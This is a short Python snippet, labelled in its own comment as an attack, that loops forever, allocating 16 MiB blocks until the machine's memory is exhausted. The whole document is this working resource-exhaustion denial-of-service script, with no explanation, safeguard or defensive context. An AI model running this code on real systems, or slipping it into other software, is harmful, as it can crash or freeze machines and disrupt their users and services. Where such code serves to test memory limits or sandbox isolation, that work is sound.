# Attack: allocate memory until the machine runs out.
hoard = []
while True:
    hoard.append(bytearray(16 << 20))
